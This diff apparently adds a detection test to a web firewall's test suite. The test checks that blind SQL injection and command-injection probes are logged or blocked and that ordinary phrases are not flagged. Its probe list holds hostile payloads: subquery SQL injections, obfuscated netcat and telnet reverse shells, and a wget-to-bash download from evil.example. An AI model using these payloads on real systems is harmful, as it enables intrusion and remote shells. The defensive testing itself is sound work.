@@ -6,6 +6,7 @@ from __future__ import annotations
 import math
 import time
 import urllib.error
+import urllib.parse
 import urllib.request
 import uuid
 from typing import Any
@@ -141,6 +142,43 @@ def test_threat_mode_is_per_route(stack: Stack) -> None:
     # Prose that looks like SQL is not a threat.
     clean = check(stack, {"path": "/api/admin/notes", "query": "text=please select one item from the list", "ip": ip})
     assert clean["allowed"] and "threat" not in clean
+
+
+# Issue 13: boolean-blind SQL injection through a subquery, and command injection that opens a
+# shell over the network, each sent URL-encoded (as a browser or curl does) to the guarded API.
+ISSUE_13_PROBES = [
+    (
+        "/api/search",
+        "id",
+        "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a'",
+        "sqli",
+        "sqli.blind_subquery",
+    ),
+    ("/api/search", "q", "x'/**/OR/**/EXISTS(SELECT/**/1/**/FROM/**/users)--%20", "sqli", "sqli.blind_subquery"),
+    ("/api/ping", "host", "127.0.0.1; n''c${IFS}-e${IFS}/bin/sh 10.0.0.1 4444", "cmdi", "cmdi.reverse_shell"),
+    ("/api/ping", "host", "x | telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445", "cmdi", "cmdi.reverse_shell"),
+    ("/api/ping", "host", "`wget -qO- http://evil.example/s | bash`", "cmdi", "cmdi.download_exec"),
+]
+
+
+def test_blind_sqli_and_network_shells_are_recorded_with_their_rule(stack: Stack) -> None:
+    for path, param, value, threat, rule in ISSUE_13_PROBES:
+        ip = fresh_ip()
+        status, _, body = api(stack, f"{path}?{param}={urllib.parse.quote(value, safe='')}", {"cf-connecting-ip": ip})
+        assert status == 200, body  # /api/* monitors
+        [event] = events(stack, f"type=threat&identifier=ip:{ip}")
+        assert event["detail"]["primary"] == threat, (value, event)
+        assert event["detail"]["action"] == "monitor"
+        assert event["score"] >= 70
+        assert rule in {hit["rule"] for hit in event["detail"]["hits"]}, (value, event["detail"]["hits"])
+    # The same shapes are refused where the route blocks ...
+    ip = fresh_ip()
+    value = urllib.parse.quote(ISSUE_13_PROBES[0][2], safe="")
+    assert api(stack, f"/api/admin/users?id={value}", {"cf-connecting-ip": ip})[0] == 403
+    # ... and ordinary text with the same words is no threat.
+    for text in ("select a size and color", "curl up with a book", "nc state | tickets", "cat and dog"):
+        clean = check(stack, {"path": "/api/admin/notes", "query": "q=" + urllib.parse.quote(text), "ip": fresh_ip()})
+        assert clean["allowed"] and "threat" not in clean, (text, clean)
 
 
 def test_block_list_manual_and_automatic(stack: Stack) -> None:
